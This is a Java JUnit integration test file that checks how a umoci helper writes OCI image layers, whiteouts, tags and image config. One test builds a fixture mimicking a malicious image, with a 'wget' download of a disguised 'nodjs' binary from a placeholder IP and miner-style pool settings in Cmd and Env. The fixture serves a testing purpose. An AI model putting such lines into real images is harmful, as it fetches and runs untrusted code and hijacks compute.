package dev.palisade.testing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What the Umoci helper produces, checked in the layout's own bytes. */
class UmociIT {

    @TempDir
    Path work;

    private final Umoci umoci = Umoci.create();

    @Test
    void whiteoutLayerIsASingleHeaderWithoutEndOfArchiveBlocks() throws Exception {
        OciImage image = umoci.newImage(work.resolve("layout"), "v1");
        umoci.insertFile(image, "/etc/secret.txt", "token".getBytes(StandardCharsets.UTF_8), History.DEFAULT);
        umoci.insertWhiteout(image, "/etc/secret.txt", History.createdBy("RUN rm /etc/secret.txt"));

        List<Path> layers = LayoutFiles.layers(image);
        assertEquals(2, layers.size());
        byte[] whiteoutTar = LayoutFiles.gunzip(layers.get(1));
        assertEquals(512, whiteoutTar.length, "umoci 0.4.7 writes no end-of-archive blocks");
        assertEquals(List.of("etc/.wh.secret.txt"), LayoutFiles.tarEntryNames(whiteoutTar));
        assertFalse(Files.exists(umoci.unpack(image, work.resolve("bundle")).resolve("etc/secret.txt")));
    }

    @Test
    void opaqueWhiteoutHidesEverythingLowerLayersPutInTheDirectory() throws Exception {
        Path old = Files.createDirectories(work.resolve("old"));
        Files.writeString(old.resolve("old.conf"), "old\n");
        Path fresh = Files.createDirectories(work.resolve("fresh"));
        Files.writeString(fresh.resolve("new.conf"), "new\n");
        OciImage image = umoci.newImage(work.resolve("layout"), "v1");
        umoci.insert(image, old, "/opt/app", History.DEFAULT);
        umoci.insertOpaque(image, fresh, "/opt/app", History.DEFAULT);

        List<String> names = LayoutFiles.tarEntryNames(LayoutFiles.gunzip(LayoutFiles.layers(image).get(1)));
        assertTrue(names.contains("opt/app/.wh..wh..opq"), names.toString());
        Path rootfs = umoci.unpack(image, work.resolve("bundle"));
        assertTrue(Files.exists(rootfs.resolve("opt/app/new.conf")));
        assertFalse(Files.exists(rootfs.resolve("opt/app/old.conf")));
    }

    @Test
    void editRootfsRecordsDeletionsAndAdditionsInOneLayer() throws Exception {
        OciImage image = RegistryExtensionIT.twoLayerImageWithWhiteout(umoci, work.resolve("layout"));

        List<Path> layers = LayoutFiles.layers(image);
        assertEquals(2, layers.size());
        List<String> names = LayoutFiles.tarEntryNames(LayoutFiles.gunzip(layers.get(1)));
        assertTrue(names.contains("etc/palisade/.wh.b.txt"), names.toString());
        assertTrue(names.contains("etc/palisade/c.txt"), names.toString());
    }

    @Test
    void configAndHistoryLandInTheImageConfig() throws Exception {
        OciImage image = umoci.newImage(work.resolve("layout"), "v1");
        umoci.insertFile(image, "/usr/bin/nodjs", new byte[] {0x7f, 'E', 'L', 'F'},
                History.createdBy("wget -O /usr/bin/nodjs http://203.0.113.7/x").at(Instant.parse(
                        "2024-05-01T00:00:00Z")));
        umoci.configure(image, ImageConfig.unchanged()
                .withEntrypoint("/bin/sh", "-c")
                .withCmd("/usr/bin/nodjs -o 203.0.113.7:443")
                .withEnv("POOL", "203.0.113.7")
                .withLabel("maintainer", "nobody")
                .withCreated(Instant.parse("2024-05-01T00:00:00Z"))
                .withHistory(History.createdBy("CMD [\"/usr/bin/nodjs\"]")));

        String config = LayoutFiles.config(image);
        assertTrue(config.contains("\"Entrypoint\":[\"/bin/sh\",\"-c\"]"), config);
        assertTrue(config.contains("\"Cmd\":[\"/usr/bin/nodjs -o 203.0.113.7:443\"]"), config);
        assertTrue(config.contains("\"POOL=203.0.113.7\""), config);
        assertTrue(config.contains("\"maintainer\":\"nobody\""), config);
        assertTrue(config.contains("\"created\":\"2024-05-01T00:00:00Z\""), config);
        assertTrue(config.contains("\"created_by\":\"wget -O /usr/bin/nodjs http://203.0.113.7/x\""), config);
        assertTrue(config.contains("\"created_by\":\"CMD [\\\"/usr/bin/nodjs\\\"]\""), config);
        assertTrue(umoci.statJson(image).contains("wget -O /usr/bin/nodjs"));
    }

    @Test
    void tagKeepsTheEarlierStateUnderAnotherName() throws Exception {
        OciImage base = umoci.newImage(work.resolve("layout"), "base");
        umoci.insertFile(base, "/a", new byte[] {1}, History.DEFAULT);
        OciImage derived = umoci.tag(base, "derived");
        umoci.insertFile(derived, "/b", new byte[] {2}, History.DEFAULT);

        assertEquals(List.of("base", "derived"), umoci.tags(work.resolve("layout")).stream().sorted().toList());
        assertEquals(1, LayoutFiles.layers(base).size());
        assertEquals(2, LayoutFiles.layers(derived).size());
    }
}
